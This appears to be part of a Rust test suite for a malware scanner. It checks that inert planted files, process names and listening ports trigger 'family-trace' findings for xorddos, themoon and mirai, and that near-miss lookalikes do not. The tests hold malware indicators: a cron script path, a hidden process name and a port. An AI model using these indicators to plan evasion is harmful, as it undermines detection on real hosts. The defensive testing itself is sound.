        accused(&look(), hidden.pid(), ("/daemon", "nobody"), &["exe-volatile suspicious"]);
        lists.own(&[planted.path()]);
        silent(&look(), on_disk.pid());
    });
}

#[test]
fn a_trace_of_a_known_family() {
    let tree = Tree::healthy().file("etc/cron.hourly/gcc.sh", "#!/bin/sh\n");
    let outcome = look_at(&tree);
    assert_eq!((outcome.short(), outcome.status), (vec!["family-trace infected".into()], 2));
    let keys = ["family", "path"].map(|key| word(&outcome.findings[0], key));
    assert_eq!(keys, ["xorddos", "/etc/cron.hourly/gcc.sh"]);
    let tree = Tree::healthy().file("etc/cron.hourly/gcc", "#!/bin/sh\n");
    let outcome = look_at(&tree);
    assert_eq!((outcome.findings.len(), outcome.status), (0, 0), "{outcome:?}");

    apart(|lists| {
        let planted = Planted::new("/usr/local/gatewatch-programs-family", "tool");
        let (process, twin) = (called(&planted, ".nttpd"), called(&planted, "nttpd"));
        let outcome = look();
        accused(&outcome, process.pid(), (planted.path(), "unknown"), &["family-trace infected"]);
        assert_eq!(word(outcome.with("pid", process.pid())[0], "family"), "themoon");
        silent(&outcome, twin.pid());
        // Anybody may choose a name.
        lists.own(&[planted.path()]);
        accused(&look(), process.pid(), (planted.path(), "package"), &["family-trace suspicious"]);
        let pid = process.pid();
        drop(process);
        silent(&look(), pid);
    });
}

#[test]
fn a_port_on_which_a_known_family_listens() {
    apart(|_lists| {
        alone_with(&[], || {
            let planted = Planted::new("/usr/local/gatewatch-programs-port", "tool");
            let holder = |address: &str| {
                let socket = OwnedFd::from(TcpListener::bind(address).unwrap());
                Sleeper::start(&planted.exe, ":", |command| {
                    command.stdout(socket);
                })
            };
            let (process, twin) = (holder("127.0.0.1:48101"), holder("127.0.0.1:48102"));
            let outcome = look();
            accused(&outcome, process.pid(), (planted.path(), "unknown"), &["family-trace suspicious"]);
            let row = outcome.with("pid", process.pid())[0];
            assert_eq!((word(row, "family"), word(row, "local")), ("mirai", "127.0.0.1:48101"));
            silent(&outcome, twin.pid());
            let pid = process.pid();
            drop(process);
            silent(&look(), pid);
        });
    });
}
